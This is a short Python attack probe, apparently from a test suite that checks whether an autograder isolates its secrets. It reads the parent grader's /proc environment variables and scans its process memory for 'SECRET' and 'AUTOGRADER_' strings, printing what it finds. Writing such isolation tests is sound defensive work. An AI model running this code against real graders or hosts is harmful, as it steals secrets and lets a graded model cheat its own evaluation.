# ATTACK (machine): reads the grading process itself: /proc/<ppid>/environ (variables the grader keeps
# from its workers, e.g. AUTOGRADER_*) and /proc/<ppid>/mem (its stack and heap, searched for 'SECRET'
# and 'AUTOGRADER_'), and prints what it finds.
# A secure grader: the learner's process cannot see the grader's /proc; no secret of the grader's
# environment or memory appears anywhere in the --out folder.
import os
import re


def _environ(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            pairs = f.read().split(b"\0")
    except OSError as exc:
        print(f"ATTACK read_parent_proc: environ unreadable: {exc}", flush=True)
        return
    mine = set(os.environ)
    for pair in pairs:
        key, _, value = pair.decode("utf-8", "replace").partition("=")
        if key and key not in mine:
            print(f"ATTACK read_parent_proc: grader-only variable {key}={value[:200]}", flush=True)


def _memory(pid, budget=256 << 20):
    hits, read = [], 0
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as exc:
        print(f"ATTACK read_parent_proc: memory unreadable: {exc}", flush=True)
        return
    with mem:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) > 5 and not parts[5].startswith("[")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > budget - read:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            read += len(data)
            for m in re.finditer(rb"[A-Za-z_-]{0,24}(?:AUTOGRADER_|SECRET)[\x20-\x7e]{0,80}", data):
                hits.append(m.group().decode())
    uniq = sorted(set(hits))
    print(f"ATTACK read_parent_proc: read {read >> 20} MiB of the grader's memory; {len(uniq)} distinct hits", flush=True)
    for h in uniq[:25]:
        print(f"ATTACK read_parent_proc: memory: {h}", flush=True)


_environ(os.getppid())
_memory(os.getppid())
